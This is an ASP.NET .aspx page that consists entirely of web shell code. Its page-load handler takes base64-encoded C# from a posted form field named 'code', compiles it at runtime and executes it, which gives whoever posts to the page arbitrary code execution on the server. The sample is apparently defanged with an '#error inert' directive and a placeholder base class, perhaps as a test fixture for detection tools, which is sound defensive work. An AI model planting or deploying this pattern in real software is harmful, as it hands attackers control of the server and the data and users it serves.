<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ var pr = new Microsoft.CSharp.CSharpCodeProvider(); var o = new System.CodeDom.Compiler.CompilerParameters(); string code = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["code"])); var r = pr.CompileAssemblyFromSource(o, code); r.CompiledAssembly.GetType("A").GetMethod("M").Invoke(null,null); }
</script>